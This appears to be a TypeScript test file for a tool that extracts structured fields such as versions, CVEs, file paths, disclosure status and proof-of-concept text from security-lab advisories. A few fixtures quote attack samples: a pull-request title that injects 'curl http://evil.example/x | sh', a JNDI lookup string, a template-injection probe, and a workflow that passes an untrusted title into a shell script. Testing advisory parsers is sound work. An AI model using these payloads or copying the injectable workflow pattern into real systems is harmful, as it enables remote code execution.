// Phrasings of a research lab's advisories (the twelfth corpus batch, GitHub Security Lab):
// a branch given as the tested version, build and run commands beside the code, a timeline's
// "Public Advisory" line, a "Supporting Resources" list, a read past a buffer's end. Each value
// is pinned as a triager would write it.
import { describe, expect, it } from 'vitest';
import { extractedFields } from '../../test/helpers/extracted-fields.js';

const fields = extractedFields;

describe("a lab's advisory", () => {
  it('reads a tested "version" that is a branch as the branch, and no affected version', () => {
    const f = fields('## Product\n\nAcmeFTPd\n\n## Tested Version\n\nDevelopment version - master branch (Feb 7, 2020)\n\n## Details\n\nA read past the list.');
    expect([f.branch, f.affectedVersions]).toEqual(['master', undefined]);
    expect(fields('## Tested Version\n\n2.4.1 (master branch)\n').affectedVersions).toBe('2.4.1');
  });

  it('takes no build or run command for a place: "./configure" after compiler settings, "./server -n" with its options', () => {
    const text =
      'The bug is in diraliases.c.\n\nCC="clang" CFLAGS="-fsanitize=address -g" ./configure --with-diraliases\n\n- Run it as root: # ./acmeftpd -n -c basic.conf\n';
    expect(fields(text).locations).toEqual(['diraliases.c']);
    expect(fields('See ./docs/setup.md and tools/run.sh for details.').locations).toEqual(['./docs/setup.md', 'tools/run.sh']);
  });

  it('reads a timeline\'s "Public Advisory" line as public, but not a build that is "publicly available"', () => {
    const f = fields('## Coordinated Disclosure Timeline\n\n- 02/05/2020: Report sent to Vendor\n- 05/11/2020: Public Advisory\n');
    // Public; its day is filed only where the timeline settles which number is the month (undecidedDayMonth).
    expect([f.public, f.disclosureDate]).toEqual([true, undefined]);
    const settled = fields('## Coordinated Disclosure Timeline\n\n- 02/25/2020: Report sent to Vendor\n- 05/11/2020: Public Advisory\n');
    expect([settled.public, settled.disclosureDate]).toEqual([true, '2020-05-11']);
    expect(fields('Tested on build QQ1A.191205.011 (latest publicly available build as of the time of writing).').public).toBeUndefined();
    expect(fields('A public exploit is publicly available on GitHub.').public).toBe(true);
  });

  it('takes no link under "Supporting Resources" for a place', () => {
    const text = 'The check is in ValidatorImpl.java.\n\n## Supporting Resources\n\n- https://access.example.com/security/cve/CVE-2020-10693\n';
    expect(fields(text).locations).toEqual(['ValidatorImpl.java']);
  });

  it('types a read past the end as an out-of-bounds read (CWE-125), and a write as an overflow', () => {
    expect(fields('Details below.', 'GHSL-2020-002: out-of-bounds (OOB) read in AcmeFTPd').vulnType).toBe('out-of-bounds read');
    expect(fields('Details below.', 'OOB read and DoS in AcmeFTPd').vulnType).toBe('out-of-bounds read');
    expect(fields('Details below.', 'Out-Of-Bounds write in the NFC stack').vulnType).toBe('buffer overflow');
    expect(fields('The weakness is CWE-125.').vulnType).toBe('out-of-bounds read');
  });
});

// The thirteenth corpus batch: code-browser links, a remediation's imperatives, a timeline's fix lines.
describe("a lab's advisory, continued", () => {
  it('names the file a code browser links to, once, as its path in the repository', () => {
    const text = [
      'The node is freed in [iir_filter_node.cc](https://source.chromium.org/chromium/chromium/src/+/b4c8e13:third_party/blink/renderer/modules/webaudio/iir_filter_node.cc;l=108;bpv=1) and used at',
      'https://source.chromium.org/chromium/chromium/src/+/b4c8e13:third_party/blink/renderer/modules/webaudio/iir_filter_node.cc;l=117;bpv=1.',
      'See https://android.googlesource.com/platform/system/nfc/+/a581069/src/nfc/tags/rw_t2t_ndef.cc#629 and',
      'https://github.com/acme/lib/blob/3b310d5/lib/core.py#L270-L273 and the folder https://github.com/acme/lib/tree/main/lib',
    ].join('\n');
    const places = fields(text).locations as string[];
    expect(places).toEqual(
      expect.arrayContaining(['third_party/blink/renderer/modules/webaudio/iir_filter_node.cc', 'src/nfc/tags/rw_t2t_ndef.cc', 'lib/core.py']),
    );
    // Each file once, no link kept whole, and a folder's link is no file.
    expect(places.filter((p) => p.endsWith('/iir_filter_node.cc'))).toHaveLength(1);
    expect(places.some((p) => /^https?:/.test(p))).toBe(false);
  });

  it('reads "master branch build 8f57323" as the master branch, not a branch called "build"', () => {
    expect(fields('Chrome version: master branch build 8f57323, release build.').branch).toBe('master');
  });

  it("takes no remediation's imperatives for steps, no timeline line for a mitigation, and the version a timeline says the fix shipped in", () => {
    const text = [
      '#### Remediation',
      '',
      '- Replace the validator with one that does not interpolate expressions by default.',
      '- Disable the interpolation and only use the parameter interpolator.',
      '',
      '## Coordinated Disclosure Timeline',
      '',
      '- 05/04/2020: Fix is shared with the lab for review.',
      '- 06/03/2020: Fix is released as part of 3.1.7 version.',
    ].join('\n');
    const f = fields(text, 'GHSL-2020-042: Server-side template injection in Acme CMS');
    expect(f.steps).toBeUndefined();
    expect(f.mitigation).not.toMatch(/Fix is shared/);
    expect(f.fixedVersion).toBe('3.1.7');
  });
});

// The sixteenth corpus batch: quoted product code under a file-and-lines line, namespaces, a packager's versions.
describe("a lab's advisory, its code and its versions", () => {
  it('takes no quoted product code for the PoC when the line above names its file and lines or function', () => {
    const text = [
      'The vulnerability is in protocols/rdp/channels/rdpsnd/rdpsnd-message.c [235-257]',
      '',
      '    /* Read wave information */',
      '    Stream_Read_UINT16(input_stream, rdpsnd->server_timestamp);',
      '    Stream_Read_UINT16(input_stream, format);',
    ].join('\n');
    expect(fields(text, 'GHSL-2020-058: OOB read in Acme RDP').poc).toBeUndefined();
    const fn = 'ssh.c:ndpi_search_ssh_tcp\n...\n\n    if(msgcode == 20 /* key exchange init */) {\n      char *buf = calloc(len, 1);\n    }\n';
    expect(fields(fn, 'Heap overflow in Acme DPI').poc).toBeUndefined();
  });

  it('takes no XML namespace for a place', () => {
    expect(fields('The response is <html xmlns="http://www.w3.org/1999/xhtml"> with the echo reflected in /webtools/control/xmlrpc.').locations).toEqual([
      '/webtools/control/xmlrpc',
    ]);
  });

  it("reads a packager's version whole, without the sentence's full stop, and not the version of a tool on the reporter's system", () => {
    expect(fields('## Tested Version\n\nHPLIP 3.17.10+repack0-5, tested on Ubuntu 18.04.4 LTS with simple-scan 3.28.0-0ubuntu1.\n').affectedVersions).toBe(
      '3.17.10+repack0-5',
    );
    expect(fields('Tested on FreePBX 16.0.40 with api module 16.0.13.').affectedVersions).toBe('16.0.40, 16.0.13');
  });
});

describe("a lab's timeline", () => {
  it('reads "Vulnerability disclosed." as public, but not a disclosure to the vendor', () => {
    const f = fields('## Coordinated Disclosure Timeline\n\n- 2020-08-28 The vendor sets a disclosure date.\n- 2020-09-30 Vulnerability disclosed.\n');
    expect([f.public, f.disclosureDate]).toEqual([true, '2020-09-30']);
    expect(fields('## Timeline\n\n- 2020-08-28 Vulnerability disclosed to the vendor.\n').public).toBeUndefined();
  });
});

describe("a lab's advisory that names earlier bugs", () => {
  it('takes no CVE it names as the bug it varies or bypasses, but keeps its own', () => {
    const text =
      'This issue was found performing a Variant Analysis of CVE-2020-11022. Note: we are aware of CVE-2020-7597, but the fix was incomplete. This issue was assigned CVE-2020-7719.';
    expect(fields(text).cves).toEqual(['CVE-2020-7719']);
    expect(fields('The patch for CVE-2021-1234 is attached.').cves).toEqual(['CVE-2021-1234']);
  });
});

// Product code quoted with no line naming it: a validator class, a C function, their closing braces.
describe("a lab's advisory that quotes the product's code without naming it", () => {
  it('takes no block of declarations and branches, nor a block of braces alone, for the PoC', () => {
    const java = [
      'Netflix Conductor uses custom constraint validators such as TaskTimeoutValidator:',
      '',
      'class TaskTimeoutValidator implements ConstraintValidator<TaskTimeoutConstraint, TaskDef> {',
      '    @Override',
      '    public void initialize(TaskTimeoutConstraint constraintAnnotation) {',
      '    }',
      '',
      '    @Override',
      '    public boolean isValid(TaskDef taskDef, ConstraintValidatorContext context) {',
      '        context.buildConstraintViolationWithTemplate(message).addConstraintViolation();',
      '        return valid;',
      '    }',
      '}',
    ].join('\n');
    expect(fields(java, 'GHSL-2020-027: Server-side template injection in Acme Conductor').poc).toBeUndefined();
  });

  it('still takes a program written to attack, and product-looking code that carries a payload', () => {
    const harness = '```c\nint main(void) {\n    char buf[64];\n    if (fd < 0) {\n        return 1;\n    }\n    trigger(buf);\n}\n```';
    expect(fields(`PoC harness below.\n\n${harness}`, 'Heap overflow in Acme').poc).toMatch(/^int main\(void\)/);
    const payload = '```java\npublic class Exploit {\n    public static String name = "${jndi:ldap://x}";\n    private int n;\n}\n```';
    expect(fields(`Set the name as below.\n\n${payload}`, 'Injection in Acme').poc).toMatch(/jndi/);
  });
});

// The twenty-second corpus batch: advisories of GitHub workflows, whose input is a public issue.
describe('an advisory of a workflow that a public issue sets off', () => {
  it('does not read "a user creates a public issue" or "the title and body of a public GitHub issue" as the report being public', () => {
    expect(fields('When a user creates a public issue it automatically starts the Jira-issue.yaml workflow.').public).toBeUndefined();
    expect(fields('### Issue: The title and body of a public GitHub issue are used to format a shell command').public).toBeUndefined();
    expect(fields('I opened a public issue about this last week.').public).toBe(true);
  });

  it('names the product of a "Product" section without the words for its repository', () => {
    expect(fields('## Product\n\nArduino-Cli GitHub repository\n\n## Tested Version\n\nmaster').component).toBe('Arduino-Cli');
    expect(fields('## Product\n\nhomebridge/verified GitHub repository\n').component).toBe('homebridge/verified');
  });

  it('files no affected version for a tested "Latest", but keeps "all versions" and a tested version number', () => {
    expect(fields('## Tested Version\n\nLatest\n\n## Details\n\nThe template is evaluated.').affectedVersions).toBeUndefined();
    expect(fields('## Affected versions\n\nall versions\n').affectedVersions).toBe('all versions');
    expect(fields('## Tested Version\n\n2.4.1\n').affectedVersions).toBe('2.4.1');
  });

  it("takes neither a quoted function's pieces cut by blank lines nor a code browser's link for the PoC", () => {
    const text = [
      'In the IIRFilterHandler::Process method, the method NotifyBadState is posted to the main thread.',
      '',
      '    if (HasNonFiniteOutput()) {',
      '      did_warn_bad_filter_state_ = true;',
      '',
      '    }',
      '',
      '    return;',
      '',
      '- https://source.chromium.org/chromium/chromium/src/+/b4c8e13:third_party/blink/iir_filter_node.cc;l=108?originalUrl=https:%2F%2Fcs.chromium.org%2F',
    ].join('\n');
    expect(fields(text, 'GHSL-2020-035: Use-after-free in Acme WebAudio').poc).toBeUndefined();
  });

  it('takes a short step that ends at its colon ("First install acme-uploader:") as the first step, but not a label with its value', () => {
    const text =
      'The following proof-of-concept illustrates the vulnerability. First install acme-uploader:\n\nnpm install acme-uploader\n\nNow create a file with the following contents:\n\nvar a = 1;\n';
    expect(fields(text).steps).toBe('First install acme-uploader:');
    expect(fields('Upload path: /var/www/files\n\nThe server keeps every file.').steps).toBeUndefined();
  });

  it('takes the sentence that says what sets the flaw off as the steps when there is no list or instruction, not who can', () => {
    expect(fields('## Impact\n\nA stored XSS issue can be triggered by fooling an editor into opening a crafted page.').steps).toBe(
      'A stored XSS issue can be triggered by fooling an editor into opening a crafted page.',
    );
    expect(fields('The daemon can trigger an endless loop by repeatedly reading a symlink to /dev/zero.').steps).toBe(
      'The daemon can trigger an endless loop by repeatedly reading a symlink to /dev/zero.',
    );
    expect(fields('This crash can be triggered by any user of the service.').steps).toBeUndefined();
  });

  it('names the product by its package when the Product section is the registry\'s page, and files no version for a tested "Latest commit"', () => {
    const f = fields('## Product\n\nhttps://www.npmjs.com/package/@acme/plugin-ext\n\n## Tested Version\n\nLatest commit\n\n## Details\n\nA merge.');
    expect([f.component, f.affectedVersions]).toEqual(['@acme/plugin-ext', undefined]);
    expect(fields('## Product\n\nhttps://pypi.org/project/acme-zip/\n').component).toBe('acme-zip');
    expect(fields('## Product\n\nAcme Zip (https://www.npmjs.com/package/acme-zip)\n').component).toBe('Acme Zip');
  });

  it('reads a public issue opened only to ask for a security contact as no disclosure, but a public issue with the details as one', () => {
    const timeline = '## Coordinated Disclosure Timeline\n\n- 01/18/2021: Sent request for status update. Created public issue to request security contact\n';
    expect(fields(timeline).public).toBeUndefined();
    expect(fields('I reported it in a public issue with the PoC last week.').public).toBe(true);
  });

  it('reads a tested "latest commit" line as the commit it names, and no version, even with a date', () => {
    const f = fields('## Tested Version\n\nThe latest commit to the date: 8e1f654.\n\n## Details\n\nA weak secret.');
    expect([f.commit, f.affectedVersions]).toEqual(['8e1f654', undefined]);
    expect(fields('## Tested Version\n\nLatest commit at the time of reporting (November 27, 2020).\n').affectedVersions).toBeUndefined();
  });

  it("reads a GitHub workflow's YAML pasted without a fence as code, not as a steps section, but keeps an advisory's right-aligned header", () => {
    const yaml =
      'A Pull Request title is used to format a bash script:\n\nname: Check PR title\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Check PR title\n        run: |\n          title="${{ github.event.pull_request.title }}"\n';
    expect(fields(yaml).steps).toBeUndefined();
    const header = '        title: SQL Injection\n      product: Acme Forum Plugin\n           by: Jane Roe\n';
    expect(fields(header).component).toBe('Acme Forum Plugin');
  });

  it('takes no quoted workflow for the PoC: the title the attacker writes is it', () => {
    const text = [
      'The workflow below runs on every pull request:',
      '',
      '```yaml',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - name: Check PR title',
      '        run: |',
      '          title="${{ github.event.pull_request.title }}"',
      '```',
      '',
      'A pull request titled `a"; curl http://evil.example/x | sh #` runs the attacker\'s commands.',
    ].join('\n');
    const f = fields(text);
    expect(String(f.poc)).not.toMatch(/runs-on|github\.event/);
    // A template expression in a payload is still one.
    expect(fields('Send the name `${{7*7}}` and the page shows 49.').poc).toMatch(/7\*7/);
  });
});
